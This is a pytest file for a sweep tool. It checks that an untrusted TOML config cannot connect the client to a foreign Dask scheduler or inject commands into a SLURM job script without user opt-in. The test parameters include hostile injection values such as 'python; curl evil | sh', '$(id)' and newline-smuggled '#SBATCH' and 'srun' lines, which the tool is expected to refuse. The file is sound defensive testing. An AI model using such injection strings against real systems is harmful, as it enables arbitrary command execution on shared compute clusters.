"""A sweep config alone never chooses where code runs (issue 12, finding 3).

A TOML someone sends you must not connect your client to their scheduler (which could
make your process execute code), nor put commands into a SLURM job script. The user opts
in with ``--trust-config-cluster`` (or their own Dask configuration); values that would
break a job script's lines are refused even then.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Iterator

import pytest

from .sweeps import TINY_SWEEP

pytestmark = pytest.mark.cluster


def _sweep(config: Path, out: Path, *extra: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "skibidy", "sweep", str(config), "--out", str(out), "--no-progress", *extra],
        capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
        env={**os.environ, **(env or {})},
    )


def _one_line_exit_2(proc: subprocess.CompletedProcess[str]) -> str:
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    return proc.stderr


class Listener:
    """A loopback TCP port that counts the connections made to it (and closes them)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture()
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def test_config_scheduler_is_not_contacted_without_opt_in(listener: Listener, tmp_path: Path) -> None:
    address = f"tcp://127.0.0.1:{listener.port}"
    config = tmp_path / "sent_to_me.toml"
    config.write_text(TINY_SWEEP + f'\n[cluster]\nscheduler = "{address}"\ntimeout = 2\n')
    err = _one_line_exit_2(_sweep(config, tmp_path / "out"))
    assert f"scheduler = '{address}'" in err and "--trust-config-cluster" in err
    assert listener.connections == 0, "the client connected to the config's scheduler"
    assert not (tmp_path / "out").exists()

    # opting in (the option, or the user's own Dask configuration) follows the config
    for extra, env in ((["--trust-config-cluster"], None),
                       ([], {"DASK_SKIBIDY__TRUST_CONFIG_CLUSTER": "true"})):
        err = _one_line_exit_2(_sweep(config, tmp_path / "out", *extra, env=env))
        assert f"cannot reach the Dask scheduler at {address}" in err
        assert listener.connections >= 1
        listener.connections = 0


SLURM = """
[cluster]
kind = "slurm"
cores = 2
memory = "2GiB"
walltime = "00:10:00"
jobs = 1
"""


@pytest.mark.parametrize(
    ("extra_table", "option", "needle"),
    [
        ('python = "/opt/env/bin/python"\n', False, "python = '/opt/env/bin/python'"),
        ('job_extra = ["--exclusive"]\n', False, "job_extra"),
        ("tls = false\n", False, "tls = false"),
        ('job_extra = ["--exclusive\\n#SBATCH --wrap=id"]\n', True, "newline"),
        ('python = "python; curl evil | sh"\n', True, "shell character"),
        ('local_directory = "$(id)"\n', True, "shell character"),
        ('queue = "short\\nsrun id"\n', True, "newline"),
    ],
)
def test_job_script_choices_need_opt_in_and_valid_values(
    extra_table: str, option: bool, needle: str, tmp_path: Path
) -> None:
    config = tmp_path / "slurm.toml"
    config.write_text(TINY_SWEEP + SLURM + extra_table)
    extra = ["--trust-config-cluster"] if option else []
    err = _one_line_exit_2(_sweep(config, tmp_path / "out", *extra))
    assert needle in err
    if not option:
        assert "--trust-config-cluster" in err
    assert not (tmp_path / "out").exists()
